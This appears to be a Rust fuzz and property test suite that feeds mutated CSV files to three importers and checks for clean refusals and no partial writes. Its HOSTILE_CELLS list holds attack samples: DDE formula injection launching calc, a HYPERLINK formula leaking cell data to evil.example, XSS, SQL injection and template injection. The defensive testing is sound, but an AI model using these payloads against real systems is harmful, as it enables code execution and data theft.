//! Hostile input for every CSV importer (issue 12, item 5): the registry of institutions, the
//! deliveries file and the division file, each fed valid files mutated at random (bytes flipped,
//! inserted and cut; rows dropped and repeated; columns added and removed; quotes left open;
//! BOMs of every kind; the file in UTF-8 or Shift_JIS, with invalid Shift_JIS sequences; huge
//! cells; formula injection, markup and control characters in cells), and the saved corpus of
//! `tests/fixtures/hostile/`. For every input: no panic; success, or a refusal a person can read
//! (a broken file named by its line, or errors naming rows and columns); and after a refusal
//! nothing written — the rows and versions of every table an import touches, and the audit log,
//! are as they were.
//!
//! The parsing layer (bytes → table) is checked without a database too, with many more cases.
//! The number of database cases per importer is `PROPTEST_CASES` (default 32); a failing case
//! is shrunk and its seed saved in `hostile.proptest-regressions` next to this file.

use crate::common::*;
use proptest::prelude::*;
use proptest::test_runner::{
    Config as PtConfig, FileFailurePersistence, TestCaseError, TestRunner,
};
use sea_query::{Expr, IntoIden, Query};
use std::path::{Path, PathBuf};
use vsys_app::csv_files::{self, Encoding, TableError};
use vsys_app::{Actor, AppError};
use vsys_domain::validation::check_text;
use vsys_domain::{FieldError, Lang};
use vsys_store::schema;
use vsys_testkit::db_test;

// ---------------------------------------------------------------------------------------------
// Mutations
// ---------------------------------------------------------------------------------------------

/// Cells an attacker (or a careless spreadsheet) puts in a file.
const HOSTILE_CELLS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "\t",
    "\r",
    "'\t",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "\u{202e}gnp.exe",
    "a\u{1b}[31mred",
    "\u{1}",
    "\u{7f}",
    "\u{85}",
    "\u{feff}",
    "１２３",
    "１，０００",
    "２０２６／０６／０３",
    "2026-02-30",
    "2026/13/01",
    "+262143-12-31",
    "-1",
    "-0",
    "1e9",
    "1.5",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775808",
    "1000000001",
    "",
    " ",
    "\u{3000}",
    "\"",
    "\"\"",
    ",",
    "\n",
    "a\r\nb",
    "'; DROP TABLE orgs; --",
    "𠮷髙﨑①㈱",
    "¥‾−",
    "🙂",
];

/// Byte sequences that are neither UTF-8 nor Windows-31J, or only one of them.
const BAD_BYTES: &[&[u8]] = &[
    b"\x81",
    b"\x81\x20",
    b"\x81\x7f",
    b"\xa0",
    b"\xfd\xfe\xff",
    b"\x85\x40",
    b"\xeb\x40",
    b"\xef\xbb",
    b"\xc3\x28",
    b"\xe3\x81",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\x00",
    b"\x82\xa0\xff",
];

/// What files start with when they are not what they seem.
const PREFIXES: &[&[u8]] = &[
    b"\xef\xbb\xbf",
    b"\xef\xbb\xbf\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xfe\xff",
    b"PK\x03\x04",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"\r\n",
    b"\n\n\n",
    b",,,\n",
    b"sep=;\n",
];

#[derive(Debug, Clone)]
enum Mutation {
    FlipBit(prop::sample::Index, u8),
    Insert(prop::sample::Index, Vec<u8>),
    Delete(prop::sample::Index, usize),
    Truncate(prop::sample::Index),
    DropLine(prop::sample::Index),
    RepeatLine(prop::sample::Index, usize),
    AddColumn(prop::sample::Index, String),
    RemoveColumn(prop::sample::Index, prop::sample::Index),
    SetCell(prop::sample::Index, prop::sample::Index, String, bool),
    OpenQuote(prop::sample::Index),
    Prefix(Vec<u8>),
    BadBytes(prop::sample::Index, Vec<u8>),
    HugeCell(prop::sample::Index, prop::sample::Index, char, usize),
    LineEnds(u8),
}

fn cell() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => prop::sample::select(HOSTILE_CELLS).prop_map(str::to_owned),
        1 => any::<String>(),
        1 => "[0-9０-９,，/／-]{0,12}",
    ]
}

fn mutation() -> BoxedStrategy<Mutation> {
    use prop::sample::{Index, select};
    prop_oneof![
        1 => (any::<Index>(), 0..8_u8).prop_map(|(i, b)| Mutation::FlipBit(i, b)),
        1 => (any::<Index>(), prop::collection::vec(any::<u8>(), 1..8))
            .prop_map(|(i, v)| Mutation::Insert(i, v)),
        1 => (any::<Index>(), 1..40_usize).prop_map(|(i, n)| Mutation::Delete(i, n)),
        1 => any::<Index>().prop_map(Mutation::Truncate),
        1 => any::<Index>().prop_map(Mutation::DropLine),
        1 => (any::<Index>(), 1..4_usize).prop_map(|(i, n)| Mutation::RepeatLine(i, n)),
        1 => (any::<Index>(), cell()).prop_map(|(i, c)| Mutation::AddColumn(i, c)),
        1 => (any::<Index>(), any::<Index>()).prop_map(|(i, j)| Mutation::RemoveColumn(i, j)),
        3 => (any::<Index>(), any::<Index>(), cell(), any::<bool>())
            .prop_map(|(i, j, c, q)| Mutation::SetCell(i, j, c, q)),
        1 => any::<Index>().prop_map(Mutation::OpenQuote),
        1 => select(PREFIXES).prop_map(|p| Mutation::Prefix(p.to_vec())),
        1 => (any::<Index>(), select(BAD_BYTES)).prop_map(|(i, b)| Mutation::BadBytes(i, b.to_vec())),
        1 => (
            any::<Index>(),
            any::<Index>(),
            select(&['x', 'あ', '髙', ',', '"', '\n', '=', '0'][..]),
            1_000..300_000_usize
        )
            .prop_map(|(i, j, c, n)| Mutation::HugeCell(i, j, c, n)),
        1 => (0..3_u8).prop_map(Mutation::LineEnds),
    ]
    .boxed()
}

/// The lines of a file (split at `\n`, which is never part of a character in UTF-8 or
/// Shift_JIS), each without its `\n`.
fn lines(bytes: &[u8]) -> Vec<Vec<u8>> {
    bytes.split(|&b| b == b'\n').map(<[u8]>::to_vec).collect()
}

fn join(lines: &[Vec<u8>]) -> Vec<u8> {
    lines.join(&b'\n')
}

/// The cells of a line split at every comma (quotes ignored: the mutations need not respect
/// them).
fn cells(line: &[u8]) -> Vec<Vec<u8>> {
    line.split(|&b| b == b',').map(<[u8]>::to_vec).collect()
}

/// Text in the file's encoding (Shift_JIS where it can hold the text, else UTF-8).
fn encoded(s: &str, sjis: bool) -> Vec<u8> {
    if sjis {
        let (b, _, bad) = encoding_rs::SHIFT_JIS.encode(s);
        if !bad {
            return b.into_owned();
        }
    }
    s.as_bytes().to_vec()
}

fn apply(bytes: &mut Vec<u8>, m: &Mutation, sjis: bool) {
    let at = |i: &prop::sample::Index, len: usize| if len == 0 { 0 } else { i.index(len + 1) };
    match m {
        Mutation::FlipBit(i, bit) => {
            if !bytes.is_empty() {
                let k = i.index(bytes.len());
                bytes[k] ^= 1 << bit;
            }
        }
        Mutation::Insert(i, v) => {
            let k = at(i, bytes.len());
            bytes.splice(k..k, v.iter().copied());
        }
        Mutation::Delete(i, n) => {
            let k = at(i, bytes.len());
            let end = (k + n).min(bytes.len());
            bytes.drain(k..end);
        }
        Mutation::Truncate(i) => {
            let k = at(i, bytes.len());
            bytes.truncate(k);
        }
        Mutation::DropLine(i) => {
            let mut ls = lines(bytes);
            let k = i.index(ls.len());
            ls.remove(k);
            *bytes = join(&ls);
        }
        Mutation::RepeatLine(i, n) => {
            let mut ls = lines(bytes);
            let k = i.index(ls.len());
            let l = ls[k].clone();
            for _ in 0..*n {
                ls.insert(k, l.clone());
            }
            *bytes = join(&ls);
        }
        Mutation::AddColumn(i, c) => {
            let mut ls = lines(bytes);
            let k = i.index(ls.len());
            let cr = ls[k].last() == Some(&b'\r');
            if cr {
                ls[k].pop();
            }
            ls[k].push(b',');
            ls[k].extend(encoded(c, sjis));
            if cr {
                ls[k].push(b'\r');
            }
            *bytes = join(&ls);
        }
        Mutation::RemoveColumn(i, j) => {
            let mut ls = lines(bytes);
            let k = i.index(ls.len());
            let mut cs = cells(&ls[k]);
            let c = j.index(cs.len());
            cs.remove(c);
            ls[k] = cs.join(&b',');
            *bytes = join(&ls);
        }
        Mutation::SetCell(i, j, c, quoted) => {
            let mut ls = lines(bytes);
            let k = i.index(ls.len());
            let mut cs = cells(&ls[k]);
            let col = j.index(cs.len());
            let text = if *quoted {
                format!("\"{}\"", c.replace('"', "\"\""))
            } else {
                c.clone()
            };
            cs[col] = encoded(&text, sjis);
            ls[k] = cs.join(&b',');
            *bytes = join(&ls);
        }
        Mutation::OpenQuote(i) => {
            let k = at(i, bytes.len());
            bytes.insert(k, b'"');
        }
        Mutation::Prefix(p) => {
            bytes.splice(0..0, p.iter().copied());
        }
        Mutation::BadBytes(i, b) => {
            let k = at(i, bytes.len());
            bytes.splice(k..k, b.iter().copied());
        }
        Mutation::HugeCell(i, j, ch, n) => {
            let mut ls = lines(bytes);
            let k = i.index(ls.len());
            let mut cs = cells(&ls[k]);
            let col = j.index(cs.len());
            cs[col] = encoded(&ch.to_string().repeat(*n), sjis);
            ls[k] = cs.join(&b',');
            *bytes = join(&ls);
        }
        Mutation::LineEnds(how) => {
            let ls = lines(bytes);
            let trimmed: Vec<Vec<u8>> = ls
                .into_iter()
                .map(|mut l| {
                    if l.last() == Some(&b'\r') {
                        l.pop();
                    }
                    l
                })
                .collect();
            *bytes = match how {
                0 => trimmed.join(&b"\r\n"[..]),
                1 => trimmed.join(&b'\r'),
                _ => trimmed.join(&b'\n'),
            };
        }
    }
}

/// A case: which of the importer's valid files, in which encoding, mutated how.
#[derive(Debug, Clone)]
struct Case {
    sjis: bool,
    mutations: Vec<Mutation>,
}

fn case() -> impl Strategy<Value = Case> {
    (any::<bool>(), prop::collection::vec(mutation(), 0..5))
        .prop_map(|(sjis, mutations)| Case { sjis, mutations })
}

fn mutated(valid: &str, c: &Case) -> Vec<u8> {
    let mut bytes = encoded(valid, c.sjis);
    for m in &c.mutations {
        apply(&mut bytes, m, c.sjis);
    }
    bytes
}

// ---------------------------------------------------------------------------------------------
// Judging an answer
// ---------------------------------------------------------------------------------------------

/// A refusal a person can act on: the file named as broken at a line, the missing columns, or
/// errors each naming a data row (and a column, or what is wrong with the row), with a message
/// in both languages. Anything else (a store error, an internal error) is a failure.
fn clear_refusal(e: &AppError) -> Result<(), String> {
    let rows_ok = |errors: &[FieldError]| {
        !errors.is_empty()
            && errors
                .iter()
                .all(|f| f.row.is_some_and(|r| r >= 1) || f.row.is_none())
            && errors.iter().all(|f| {
                [Lang::Ja, Lang::En]
                    .iter()
                    .all(|l| !f.msg.text(*l).is_empty())
            })
    };
    let ok = match e {
        AppError::Csv(TableError::Malformed { line, .. }) => *line >= 1,
        AppError::Csv(TableError::MissingColumns(c)) => !c.is_empty(),
        AppError::Csv(TableError::Rows(errors)) => rows_ok(errors),
        AppError::Csv(TableError::Unencodable { .. }) => false,
        AppError::Invalid(inv) => rows_ok(&inv.0),
        _ => false,
    };
    if !ok {
        return Err(format!("not a clear refusal: {e:?}"));
    }
    if let AppError::Csv(t) = e {
        for lang in [Lang::Ja, Lang::En] {
            let text = t.message(lang);
            if text.trim().is_empty() || text.contains("{line}") || text.contains("{row}") {
                return Err(format!("unreadable message {text:?} for {e:?}"));
            }
        }
    }
    Ok(())
}

/// What an import may have written: rows and the sum of versions of every table an importer
/// touches, and the audit log.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Fingerprint(Vec<(&'static str, i64, i64)>);

async fn fingerprint(w: &World) -> Fingerprint {
    async fn one(
        tx: &mut vsys_store::Tx,
        name: &'static str,
        table: impl IntoIden,
        versioned: bool,
    ) -> (&'static str, i64, i64) {
        let sum = if versioned {
            "CAST(COALESCE(SUM(version), 0) AS BIGINT)"
        } else {
            "CAST(0 AS BIGINT)"
        };
        let q = Query::select()
            .expr(Expr::cust("COUNT(*)"))
            .expr(Expr::cust(sum))
            .from(table)
            .to_owned();
        let (n, v): (i64, i64) = tx.one(&q).await.unwrap();
        (name, n, v)
    }
    let mut tx = w.db.db.read().await.unwrap();
    let tx = &mut tx;
    Fingerprint(vec![
        one(tx, "orgs", schema::Orgs::Table, true).await,
        one(tx, "site_profiles", schema::SiteProfiles::Table, true).await,
        one(tx, "site_changes", schema::SiteChanges::Table, false).await,
        one(tx, "deliveries", schema::Deliveries::Table, true).await,
        one(tx, "stock_ledger", schema::StockLedger::Table, false).await,
        one(tx, "allocation_nodes", schema::AllocationNodes::Table, true).await,
        one(tx, "site_requests", schema::SiteRequests::Table, true).await,
        one(tx, "audit_log", schema::AuditLog::Table, false).await,
        one(tx, "audit_heads", schema::AuditHeads::Table, false).await,
        one(tx, "notices", schema::Notices::Table, false).await,
        one(tx, "outbox", schema::Outbox::Table, false).await,
        one(tx, "jobs", schema::Jobs::Table, false).await,
    ])
}

/// Runs one import and judges it: no panic (a panic fails the case), success or a clear
/// refusal, and nothing written after a refusal.
async fn judge<T: std::fmt::Debug>(
    w: &World,
    what: &str,
    bytes: &[u8],
    import: impl std::future::Future<Output = Result<T, AppError>>,
) -> Result<bool, String> {
    let before = fingerprint(w).await;
    let r = import.await;
    let show = || {
        let head: Vec<u8> = bytes.iter().copied().take(200).collect();
        format!(
            "{what}, {} bytes starting {:?}",
            bytes.len(),
            String::from_utf8_lossy(&head)
        )
    };
    match r {
        Ok(_) => Ok(true),
        Err(e) => {
            clear_refusal(&e).map_err(|m| format!("{}: {m}", show()))?;
            let after = fingerprint(w).await;
            if after != before {
                return Err(format!(
                    "{}: refused ({e:?}) but wrote: {before:?} → {after:?}",
                    show()
                ));
            }
            Ok(false)
        }
    }
}

/// Runs `cases` generated cases of `strategy` through `check` on the test's own runtime, with
/// proptest's shrinking and its file of regressions next to this file.
fn run_cases<S: Strategy>(name: &str, strategy: S, check: impl Fn(S::Value) -> Result<(), String>)
where
    S::Value: std::fmt::Debug,
{
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|c| c.parse().ok())
        .unwrap_or(32);
    let config = PtConfig {
        cases,
        max_shrink_iters: 64,
        failure_persistence: Some(Box::new(FileFailurePersistence::WithSource(
            "proptest-regressions",
        ))),
        source_file: Some(file!()),
        ..PtConfig::default()
    };
    let mut runner = TestRunner::new(config);
    let result = tokio::task::block_in_place(|| {
        runner.run(&strategy, |v| check(v).map_err(TestCaseError::fail))
    });
    if let Err(e) = result {
        panic!("{name}: {e}");
    }
}

fn block_on<F: std::future::Future>(f: F) -> F::Output {
    tokio::runtime::Handle::current().block_on(f)
}

// ---------------------------------------------------------------------------------------------
// The valid files each importer starts from
// ---------------------------------------------------------------------------------------------

const REGISTRY_HEADER: &str = "医療機関コード,老健施設等コード,名称,郵便番号,市町村コード,住所,代表者,契約状況,種別,基本型コード";

fn registry_file() -> String {
    [
        REGISTRY_HEADER,
        "1350000001,,髙橋クリニック,105-0011,13103,東京都港区芝公園4-2-8,髙橋 一郎,契約済,基本型,",
        "1350000002,1312345678,﨑山医院,1060032,13103,東京都港区六本木1-1-1,﨑山 花子,手続中,サテライト型,1350000001",
        "0150000001,,札幌すずらん内科,060-0001,01100,北海道札幌市中央区北1条西2丁目,鈴木 次郎,未契約,,",
        "",
    ]
    .join("\r\n")
}

/// The wholesaler's deliveries of a finalised cycle, as it would download them now.
async fn deliveries_file(w: &World, cycle: &str, who: &Actor) -> String {
    let q = vsys_app::delivery::DeliveryQuery {
        cycle: Some(cycle.into()),
        per_page: Some(500),
        ..Default::default()
    };
    let (all, _) = vsys_app::delivery::list(&w.app, who, &q).await.unwrap();
    let (bytes, _) = csv_files::delivery::export(&all, Encoding::Utf8, Lang::Ja).unwrap();
    let (text, _) = csv_files::decode(&bytes).unwrap();
    // Something to change: a scheduled day for every line, and a note.
    let day = (w.today() + chrono::Duration::days(3))
        .format("%Y/%m/%d")
        .to_string();
    text.lines()
        .enumerate()
        .map(|(i, l)| {
            if i == 0 {
                return l.to_owned();
            }
            let mut c: Vec<String> = l.split(',').map(str::to_owned).collect();
            if c.len() >= 10 {
                c[5] = day.clone();
                c[9] = "午前中".into();
            }
            c.join(",")
        })
        .collect::<Vec<_>>()
        .join("\r\n")
}

/// 港区's division of a cycle, as it would download it now, with one box for its first site.
async fn division_file(w: &World, cycle: &str, who: &Actor) -> String {
    let d = vsys_app::allocation::division(&w.app, who, cycle, "13103")
        .await
        .unwrap();
    let (bytes, _) = csv_files::allocation::export(&d, Encoding::Utf8, Lang::Ja).unwrap();
    let (text, _) = csv_files::decode(&bytes).unwrap();
    text.lines()
        .enumerate()
        .map(|(i, l)| {
            let mut c: Vec<String> = l.split(',').map(str::to_owned).collect();
            if i == 1 && c.len() >= 3 {
                c[2] = "1".into();
            }
            c.join(",")
        })
        .collect::<Vec<_>>()
        .join("\r\n")
}

// ---------------------------------------------------------------------------------------------
// Properties, database by database
// ---------------------------------------------------------------------------------------------

db_test!(registry_import_takes_hostile_files, |backend| async move {
    let Some(w) = world(backend).await else {
        return;
    };
    let nation = w.actor("nation", "operator").await;
    let valid = registry_file();
    run_cases("registry_import_takes_hostile_files", case(), |c| {
        let bytes = mutated(&valid, &c);
        block_on(async {
            let import = vsys_app::site_import::import(&w.app, &nation, &bytes, &|_, _, _| {});
            judge(&w, "registry", &bytes, import).await.map(|_| ())
        })
    });
});

db_test!(
    deliveries_import_takes_hostile_files,
    |backend| async move {
        let Some(w) = world(backend).await else {
            return;
        };
        let cycle = w.finalised(11).await;
        let wholesaler = w.actor("wholesaler", "operator").await;
        run_cases("deliveries_import_takes_hostile_files", case(), |c| {
            block_on(async {
                let valid = deliveries_file(&w, &cycle.id, &wholesaler).await;
                let bytes = mutated(&valid, &c);
                let import = csv_files::delivery::import(&w.app, &wholesaler, &bytes);
                judge(&w, "deliveries", &bytes, import).await.map(|_| ())
            })
        });
    }
);

db_test!(division_import_takes_hostile_files, |backend| async move {
    let Some(w) = world(backend).await else {
        return;
    };
    let cycle = w.minato_confirmed(11).await;
    let minato = w.actor("minato", "operator").await;
    run_cases("division_import_takes_hostile_files", case(), |c| {
        block_on(async {
            let valid = division_file(&w, &cycle.id, &minato).await;
            let bytes = mutated(&valid, &c);
            let version = w.version(&minato, &cycle.id, "13103").await;
            let import =
                csv_files::allocation::import(&w.app, &minato, &cycle.id, "13103", version, &bytes);
            judge(&w, "division", &bytes, import).await.map(|_| ())
        })
    });
});

// ---------------------------------------------------------------------------------------------
// The saved corpus
// ---------------------------------------------------------------------------------------------

fn corpus(dir: &str) -> Vec<(PathBuf, Vec<u8>)> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile");
    let mut files: Vec<(PathBuf, Vec<u8>)> = std::fs::read_dir(root.join(dir))
        .unwrap_or_else(|e| panic!("{dir}: {e}"))
        .chain(std::fs::read_dir(root.join("any")).unwrap())
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "csv"))
        .map(|p| {
            let b = std::fs::read(&p).unwrap();
            (p, b)
        })
        .collect();
    // Files to be accepted last, so that the others see the versions they were written for.
    files.sort_by_key(|(p, _)| {
        let name = p
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        (name.starts_with("ok_"), name)
    });
    assert!(files.len() >= 10, "{dir}: only {} files", files.len());
    files
}

/// `{NAME}` → its value, in the bytes of a corpus file (the placeholders are ASCII, so this
/// works in either encoding).
fn fill(bytes: &[u8], values: &[(&str, &str)]) -> Vec<u8> {
    let mut out = bytes.to_vec();
    for (k, v) in values {
        let key = format!("{{{k}}}");
        let mut i = 0;
        while let Some(p) = out[i..]
            .windows(key.len())
            .position(|w| w == key.as_bytes())
        {
            let at = i + p;
            out.splice(at..at + key.len(), v.bytes());
            i = at + v.len();
        }
    }
    out
}

/// Each file of `tests/fixtures/hostile/<importer>/` and `…/any/`: no panic, a clear refusal,
/// nothing written. A file named `ok_*` must be accepted instead.
async fn run_corpus<T: std::fmt::Debug, F>(
    w: &World,
    dir: &str,
    values: &[(&str, &str)],
    import: impl Fn(Vec<u8>) -> F,
) where
    F: std::future::Future<Output = Result<T, AppError>>,
{
    for (path, raw) in corpus(dir) {
        let bytes = fill(&raw, values);
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let accepted = judge(w, &name, &bytes, import(bytes.clone()))
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(accepted, name.starts_with("ok_"), "{dir}/{name}");
    }
}

db_test!(saved_corpus_of_hostile_files, |backend| async move {
    let Some(w) = world(backend).await else {
        return;
    };
    let app = &w.app;
    let nation = &w.actor("nation", "operator").await;
    run_corpus(&w, "registry", &[], |b| async move {
        let nation = nation;
        vsys_app::site_import::import(app, nation, &b, &|_, _, _| {}).await
    })
    .await;

    let cycle = w.finalised(11).await;
    let wholesaler = w.actor("wholesaler", "operator").await;
    let q = vsys_app::delivery::DeliveryQuery {
        cycle: Some(cycle.id.clone()),
        per_page: Some(500),
        ..Default::default()
    };
    let (all, _) = vsys_app::delivery::list(app, &wholesaler, &q)
        .await
        .unwrap();
    let first = all.first().unwrap();
    let version = first.version.to_string();
    let values = [("ID", first.id.as_str()), ("VERSION", version.as_str())];
    let wholesaler = &wholesaler;
    run_corpus(&w, "deliveries", &values, |b| async move {
        csv_files::delivery::import(app, wholesaler, &b).await
    })
    .await;

    let cycle = w.minato_confirmed(12).await;
    let minato = &w.actor("minato", "operator").await;
    let d = vsys_app::allocation::division(app, minato, &cycle.id, "13103")
        .await
        .unwrap();
    let child = d.children.first().unwrap().org.code.clone();
    let id = cycle.id.as_str();
    let w = &w;
    run_corpus(
        w,
        "division",
        &[("CHILD", child.as_str())],
        |b| async move {
            let version = w.version(minato, id, "13103").await;
            csv_files::allocation::import(app, minato, id, "13103", version, &b).await
        },
    )
    .await;
});

// ---------------------------------------------------------------------------------------------
// The parsing layer alone (no database): many more cases
// ---------------------------------------------------------------------------------------------

/// Bytes → text → table, and the table's messages: never a panic; every refusal readable.
fn parse_layer_holds(bytes: &[u8], required: &[&str]) -> Result<(), TestCaseError> {
    match csv_files::decode(bytes) {
        Ok((text, enc)) => {
            if enc == Encoding::ShiftJis {
                prop_assert!(std::str::from_utf8(bytes).is_err());
            }
            match csv_files::parse(&text, required) {
                Ok(t) => {
                    for r in &t.rows {
                        prop_assert!(r.row >= 1);
                        for v in r.fields.values() {
                            prop_assert!(check_text(v).is_ok(), "a control character read: {v:?}");
                        }
                    }
                }
                Err(e) => {
                    for l in [Lang::Ja, Lang::En] {
                        prop_assert!(!e.message(l).is_empty());
                    }
                }
            }
        }
        Err(e) => {
            let TableError::Malformed { line, .. } = &e else {
                return Err(TestCaseError::fail(format!("decode answered {e:?}")));
            };
            prop_assert!(*line >= 1);
            for l in [Lang::Ja, Lang::En] {
                prop_assert!(!e.message(l).is_empty());
            }
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig {
        failure_persistence: Some(Box::new(FileFailurePersistence::WithSource("proptest-regressions"))),
        ..ProptestConfig::with_cases(256)
    })]

    #[test]
    fn any_bytes_are_read_or_refused_clearly(bytes in prop::collection::vec(any::<u8>(), 0..2_000)) {
        parse_layer_holds(&bytes, &["医療機関コード"])?;
    }

    #[test]
    fn mutated_files_are_read_or_refused_clearly(c in case()) {
        for (valid, required) in [
            (registry_file(), &["医療機関コード", "名称"][..]),
            ("配送ID,版,納入予定日\r\nabc,1,2026/06/03\r\n".to_owned(), &["配送ID", "版"][..]),
            ("組織コード,分配量\r\n9131030001,1\r\n".to_owned(), &["組織コード", "分配量"][..]),
        ] {
            parse_layer_holds(&mutated(&valid, &c), required)?;
        }
    }

    /// What vsys writes reads back unchanged, in both encodings, whatever the cells hold
    /// (formulas, quotes, line breaks); no written cell starts a formula.
    #[test]
    fn written_tables_read_back(
        rows in prop::collection::vec(prop::collection::vec(cell().prop_filter("no controls", |c| check_text(c).is_ok()), 3), 0..6),
        sjis in any::<bool>(),
    ) {
        let headers = ["a", "b", "c"];
        let encoding = if sjis { Encoding::ShiftJis } else { Encoding::Utf8 };
        match csv_files::write(&headers, &rows, encoding) {
            Ok(bytes) => {
                let (text, _) = csv_files::decode(&bytes).map_err(|e| TestCaseError::fail(format!("{e:?}")))?;
                let t = csv_files::parse(&text, &headers).map_err(|e| TestCaseError::fail(format!("{e:?}")))?;
                let nonblank: Vec<&Vec<String>> = rows.iter().filter(|r| r.iter().any(|c| !c.trim().is_empty())).collect();
                prop_assert_eq!(t.rows.len(), nonblank.len());
                for (r, want) in t.rows.iter().zip(nonblank) {
                    for (h, v) in headers.iter().zip(want) {
                        prop_assert_eq!(r.fields.get(*h).map(String::as_str), Some(v.as_str()));
                    }
                }
                for row in &rows {
                    for c in row {
                        let d = csv_files::defuse(c);
                        prop_assert!(
                            !d.starts_with(['=', '+', '-', '@', '\t', '\r']) || d.trim().parse::<f64>().is_ok(),
                            "{:?} written as {:?}", c, d
                        );
                    }
                }
            }
            Err(TableError::Unencodable { .. }) => prop_assert!(sjis),
            Err(e) => return Err(TestCaseError::fail(format!("{e:?}"))),
        }
    }
}
